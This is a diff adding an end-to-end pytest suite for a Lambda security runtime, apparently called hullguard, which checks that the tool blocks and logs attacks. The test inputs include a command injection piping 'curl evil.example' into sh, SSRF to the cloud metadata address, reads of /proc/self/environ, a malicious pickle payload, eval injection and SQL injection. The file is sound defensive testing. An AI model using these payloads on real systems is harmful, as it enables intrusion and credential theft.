@@ -1,0 +1,219 @@
+"""End to end under the real runtime interface client (awslambdaric) and a local Runtime API.
+
+Each test starts the orders function (``tests/fixtures/runtime/functions/orders``) in its own
+process, invokes it like Lambda would and checks both the caller's answer and the security events
+the function printed.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pickle
+from pathlib import Path
+
+import pytest
+from conftest import FIREWALL_OFF, api_event, load_event
+from emulator import FAKE_CREDENTIALS
+
+pytestmark = pytest.mark.slow
+LAYER = Path(__file__).resolve().parents[2] / "layer" / "hullguard-wrapper"
+
+
+def body(outcome: object) -> dict:
+    answer = outcome.body  # type: ignore[attr-defined]
+    assert isinstance(answer, dict), answer
+    return json.loads(answer["body"])
+
+
+def rules(fn: object, action: str | None = None) -> list[str]:
+    return [e["finding_info"]["analytic"]["uid"] for e in fn.events()  # type: ignore[attr-defined]
+            if action is None or e["action"] == action]
+
+
+def assert_no_credentials(text: str) -> None:
+    for value in FAKE_CREDENTIALS.values():
+        assert value not in text
+
+
+def test_cold_start_then_warm_invocations(function):
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    answers = [fn.invoke(api_event()) for _ in range(4)]
+    assert all(a.kind == "response" and a.body["statusCode"] == 200 for a in answers)
+    assert [body(a)["invocation"] for a in answers] == [1, 2, 3, 4]
+    assert len({body(a)["pid"] for a in answers}) == 1  # one warm execution environment
+    assert fn.events() == []  # a clean function emits nothing
+
+
+def test_shell_out_with_event_data_is_blocked(function):
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    answer = fn.invoke(api_event({"action": "thumbnail", "file": "a.jpg; curl evil.example | sh"}))
+    assert answer.body["statusCode"] == 500
+    assert "Traceback" not in answer.body["body"] and ".py" not in answer.body["body"]
+    blocked = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-PROC-001"]
+    assert blocked and blocked[0]["action"] == "blocked"
+    detail = blocked[0]["unmapped"]
+    assert "curl evil.example" in detail["evidence"]
+    assert any("logic.py" in frame for frame in detail["detail"]["stack"])  # forensic: who asked
+    # the function stays usable afterwards
+    assert fn.invoke(api_event()).body["statusCode"] == 200
+
+
+def test_ssrf_blocked_and_listed_host_works(function, web_servers):
+    allowed, unlisted = web_servers
+    fn = function(policy={"firewall": FIREWALL_OFF, "network": {"allow": [f"localhost:{allowed}"]}})
+    ok = fn.invoke(api_event({"action": "fetch", "url": f"http://localhost:{allowed}/"}))
+    assert body(ok) == {"fetched": "hello from an allowed host"}
+    metadata = fn.invoke(api_event({"action": "fetch", "url": "http://169.254.169.254/latest/meta-data/"}))
+    other = fn.invoke(api_event({"action": "fetch", "url": f"http://127.0.0.1:{unlisted}/"}))
+    assert metadata.body["statusCode"] == 500 and other.body["statusCode"] == 500
+    events = {e["finding_info"]["analytic"]["uid"]: e for e in fn.events()}
+    assert events["HG-RT-NET-002"]["action"] == "blocked"
+    assert events["HG-RT-NET-002"]["unmapped"]["location"] == "169.254.169.254:80"
+    assert events["HG-RT-NET-001"]["unmapped"]["location"] == f"127.0.0.1:{unlisted}"
+
+
+def test_network_is_reported_not_blocked_without_allow_list(function, web_servers):
+    port = web_servers[0]
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    answer = fn.invoke(api_event({"action": "fetch", "url": f"http://127.0.0.1:{port}/"}))
+    assert body(answer) == {"fetched": "hello from an allowed host"}
+    alerts = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-NET-001"]
+    assert [e["action"] for e in alerts] == ["alerted"]
+
+
+@pytest.mark.parametrize("target", ["source", "/proc/self/environ"])
+def test_reading_handler_source_and_process_secrets_is_blocked(function, target):
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    path = str(fn.task_root / "logic.py") if target == "source" else target
+    answer = fn.invoke(api_event({"action": "read", "path": path}))
+    assert answer.body["statusCode"] == 500
+    assert "def handle" not in json.dumps(answer.body)
+    assert_no_credentials(json.dumps(answer.body))
+    expected = "HG-RT-FILE-001" if target == "source" else "HG-RT-FILE-002"
+    assert expected in rules(fn, "blocked")
+    # imports of the same source files still work: the function keeps answering
+    assert fn.invoke(api_event()).body["statusCode"] == 200
+
+
+def test_files_left_in_tmp_are_cleaned(function, tmp_path):
+    customer = f"c{os.getpid()}{tmp_path.name[-6:]}"
+    fn = function(policy={"firewall": FIREWALL_OFF, "tmp": {"cleanup": "delete"}})
+    answer = fn.invoke(api_event({"action": "export", "customer": customer}))
+    assert body(answer)["exists"] is True
+    assert not Path(f"/tmp/export-{customer}.csv").exists()  # gone before the next invocation
+    cleaned = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-TMP-003"]
+    assert cleaned and f"/tmp/export-{customer}.csv" in cleaned[0]["unmapped"]["detail"]["deleted"]
+
+
+def test_environ_dump_error_messages_and_logs_leak_no_credentials(function):
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    dump = fn.invoke(api_event({"action": "debug"}))
+    environ = body(dump)["environ"]
+    assert environ["AWS_SECRET_ACCESS_KEY"] == "****" and environ["AWS_SESSION_TOKEN"] == "****"
+    failure = fn.invoke(api_event({"action": "fail"}))
+    assert failure.body["statusCode"] == 500
+    assert json.loads(failure.body["body"])["message"] == "Internal server error"
+    assert "logic.py" not in failure.body["body"]
+    fn.invoke(api_event({"action": "log"}))
+    output = fn.stdout() + fn.stderr()
+    assert_no_credentials(json.dumps(dump.body) + json.dumps(failure.body) + output)
+    assert "credentials in use:" in output and "session token ****" in output
+    # the full error, masked, is in the security log for whoever investigates
+    verbose = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-ERR-001"]
+    assert "RuntimeError: cannot connect with ****" in verbose[0]["unmapped"]["detail"]["traceback"]
+
+
+def test_credentials_removed_from_environ(function):
+    fn = function(policy={"firewall": FIREWALL_OFF, "credentials": {"remove_from_environ": True}})
+    environ = body(fn.invoke(api_event({"action": "debug"})))["environ"]
+    assert not {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"} & set(environ)
+
+
+def test_pickle_payload_is_blocked(function):
+    class Exploit:
+        def __reduce__(self):
+            return (os.system, ("id > /tmp/pwned",))
+
+    payload = base64.b64encode(pickle.dumps(Exploit())).decode()
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    answer = fn.invoke(api_event({"action": "restore", "state": payload}))
+    assert answer.body["statusCode"] == 500
+    assert "HG-RT-CODE-002" in rules(fn, "blocked")
+    plain = base64.b64encode(pickle.dumps({"cart": [1, 2]})).decode()  # plain data still loads
+    assert body(fn.invoke(api_event({"action": "restore", "state": plain}))) == {"state": "{'cart': [1, 2]}"}
+
+
+def test_eval_of_event_data_is_blocked(function):
+    fn = function(policy={"firewall": FIREWALL_OFF})
+    answer = fn.invoke(api_event({"action": "calc", "expr": "__import__('os').getcwd()"}))
+    assert answer.body["statusCode"] == 500
+    assert "HG-RT-CODE-001" in rules(fn, "blocked")
+
+
+def test_trigger_not_in_policy_is_rejected(function):
+    fn = function(policy={"invokers": {"triggers": ["api-gateway-rest"]}})
+    assert fn.invoke(api_event()).body["statusCode"] == 200
+    answer = fn.invoke(load_event("sqsEvent.json"))
+    assert answer.kind == "error"
+    assert "rejected by security policy" in answer.body["errorMessage"]
+    events = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-INV-001"]
+    assert events[0]["unmapped"]["location"] == "sqs" and events[0]["action"] == "blocked"
+
+
+def test_alert_mode_reports_without_blocking(function):
+    fn = function(policy={"firewall": FIREWALL_OFF}, env={"HULLGUARD_MODE": "alert"})
+    answer = fn.invoke(api_event({"action": "read", "path": "/proc/self/environ"}))
+    assert answer.body["statusCode"] == 200  # the read happened: report-only
+    event = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-FILE-002"][0]
+    assert event["action"] == "alerted" and event["unmapped"]["detail"]["would_block"] is True
+
+
+def test_firewall_blocks_injection_before_the_handler(function):
+    fn = function()
+    event = api_event({"action": "list"})
+    event["queryStringParameters"] = {"id": "1' OR '1'='1' --"}
+    answer = fn.invoke(event)
+    assert answer.body["statusCode"] == 403
+    firewall = [e for e in fn.events() if e["unmapped"]["source"] == "firewall"]
+    assert firewall and firewall[0]["action"] == "blocked" and firewall[0]["unmapped"]["trigger"] == "api-gateway-rest"
+
+
+def test_broken_policy_file_fails_cold_start_precisely(function):
+    fn = function(policy_file="network:\n  allow:\n    - api.example.com\n    - '*.example.org'\n    - 10.0.0.0/33\n")
+    error = fn.wait_init_error()
+    assert "network.allow[2]: '10.0.0.0/33' is not a valid CIDR" in error["errorMessage"]
+    assert "hullguard.yml" in error["errorMessage"]
+
+
+def test_no_code_change_handler(function):
+    fn = function("hullguard.handler.handler", env={"HULLGUARD_HANDLER": "plain.handler"},
+                  policy={"firewall": FIREWALL_OFF})
+    assert body(fn.invoke(api_event()))["invocation"] == 1
+    answer = fn.invoke(api_event({"action": "thumbnail", "file": "x; id"}))
+    assert answer.body["statusCode"] == 500 and "HG-RT-PROC-001" in rules(fn, "blocked")
+    assert body(fn.invoke(api_event()))["invocation"] == 3
+
+
+def test_exec_wrapper(function):
+    fn = function("plain.handler", wrapper=LAYER, policy={"firewall": FIREWALL_OFF})
+    assert body(fn.invoke(api_event()))["invocation"] == 1
+    answer = fn.invoke(api_event({"action": "read", "path": "/proc/self/environ"}))
+    assert answer.body["statusCode"] == 500 and "HG-RT-FILE-002" in rules(fn, "blocked")
+
+
+def test_bug_inside_hullguard_keeps_the_function_answering(function):
+    fn = function("faulty.handler", policy={"firewall": FIREWALL_OFF})
+    answer = fn.invoke(api_event({"action": "export", "customer": "bug"}))
+    assert body(answer)["exists"] is True  # fail open: the handler ran and answered
+    internal = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-INT-001"]
+    assert internal and "simulated hullguard bug" in internal[0]["unmapped"]["detail"]["error"]
+    assert fn.invoke(api_event()).body["statusCode"] == 200
+
+
+def test_bug_inside_hullguard_fail_closed(function):
+    fn = function("faulty.handler", policy={"firewall": FIREWALL_OFF, "fail_mode": "closed"})
+    answer = fn.invoke(api_event({"action": "export", "customer": "bugclosed"}))
+    assert answer.body["statusCode"] == 500  # the open() the hook could not judge was refused
+    assert any(e["unmapped"]["detail"].get("fail_mode") == "closed" for e in fn.events())
